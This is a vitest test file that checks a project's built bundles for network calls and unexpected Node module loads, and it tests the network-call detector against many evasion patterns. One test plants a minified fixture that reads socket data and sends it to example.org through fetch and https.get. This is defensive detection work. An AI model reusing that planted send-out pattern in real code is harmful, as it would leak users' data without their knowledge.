import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { build } from 'esbuild';
import { findNetworkCalls } from '../scripts/findNetworkCalls.ts';
import { listLoadedModules } from '../scripts/listLoadedModules.ts';
import { withoutModules } from '../scripts/withoutModules.ts';

/** The modules of Node that each bundle may load; the web bundles may load none. */
const files = [
  'buffer',
  'crypto',
  'fs',
  'fs/promises',
  'os',
  'path',
  'process',
  'string_decoder',
  'stream',
  'url',
  'util',
];
const mayLoad: Readonly<Record<string, readonly string[]>> = {
  'cli.js': [...files, 'v8', 'worker_threads'],
  'server.node.js': [...files, 'v8', 'worker_threads'],
  'extension.node.js': [...files, 'child_process', 'readline', 'vscode'],
  'server.reader.js': [...files, 'worker_threads'],
  'server.worker.js': [],
  'extension.web.js': ['vscode'],
};

const bundles = existsSync('dist') ? readdirSync('dist').filter((name) => name.endsWith('.js')) : [];

describe('the shipped bundles', () => {
  test('are built', () => expect(bundles).toEqual(expect.arrayContaining(['cli.js', 'extension.node.js'])));

  test.each(bundles)('%s reaches no network', (name) => {
    expect(findNetworkCalls(readFileSync(`dist/${name}`, 'utf8'))).toEqual([]);
  });

  test.each(bundles)('%s loads only what it needs', (name) => {
    const loaded = listLoadedModules(readFileSync(`dist/${name}`, 'utf8'));
    expect(loaded.filter((module) => !mayLoad[name]?.includes(module))).toEqual([]);
  });
});

describe('the check for network calls', () => {
  const checkFinds = (program: string, ...what: string[]) =>
    expect(findNetworkCalls(program).map((call) => call.what)).toEqual(what);

  test('sees the modules that open connections', () => {
    checkFinds(`const a = require('http');`, 'http');
    checkFinds(`import { connect } from 'node:tls';`, 'node:tls');
    checkFinds('const a = require(`node:net`);', 'node:net');
    checkFinds(`import('undici').then(run);`, 'undici');
    checkFinds(`process.getBuiltinModule('node:dgram')`, 'node:dgram');
  });
  test('sees a module whose name is computed', () =>
    checkFinds(`require('ht' + 'tp')`, 'a module whose name is computed'));
  test('sees what every program is given', () => {
    checkFinds(`fetch('https://example.org/')`, 'fetch');
    checkFinds(`const load = fetch; load(url)`, 'fetch');
    checkFinds(`globalThis.fetch(url)`, 'fetch');
    checkFinds(`self['fetch'](url)`, 'fetch');
    checkFinds(`navigator.sendBeacon(url, text)`, 'sendBeacon');
    checkFinds(`new XMLHttpRequest()`, 'XMLHttpRequest');
    checkFinds(`new WebSocket(url)`, 'WebSocket');
    checkFinds(`new EventSource(url)`, 'EventSource');
    checkFinds(`importScripts(url)`, 'importScripts');
  });
  test('sees code made from strings', () => {
    checkFinds('eval(text)', 'code from a string (eval)');
    checkFinds('new Function(text)()', 'code from a string (Function)');
  });
  test('is not fooled by words, methods and names of the program itself', () =>
    checkFinds(`
      // fetch(url), require('http')
      const text = "fetch('https://example.org/'), new WebSocket(url)";
      cache.fetch(key); const table = { fetch: 1, WebSocket() {} };
      function read(fetch) { return fetch(key); }
      { const Request = table; new Request(); }
      const url = require('url');`));

  test('fails on a bundle with a planted call, minified like the real ones', async () => {
    const planted = `import { connect } from 'node:net'; import { get } from 'node:https';
      const send = (text) => { fetch('https://example.org/', { body: text }); get('https://example.org/?' + text); };
      connect(80).on('data', send);`;
    const bundle = async (leftOut: readonly string[]) => {
      const { outputFiles } = await build({
        stdin: { contents: planted },
        bundle: true,
        minify: true,
        platform: 'node',
        format: 'cjs',
        write: false,
        plugins: [withoutModules(leftOut)],
      });
      return findNetworkCalls(outputFiles[0]?.text ?? '')
        .map((call) => call.what)
        .sort();
    };
    expect(await bundle(['none'])).toEqual(['fetch', 'node:https', 'node:net']);
    expect(await bundle(['net'])).toEqual(['fetch', 'node:https']);
  });
});
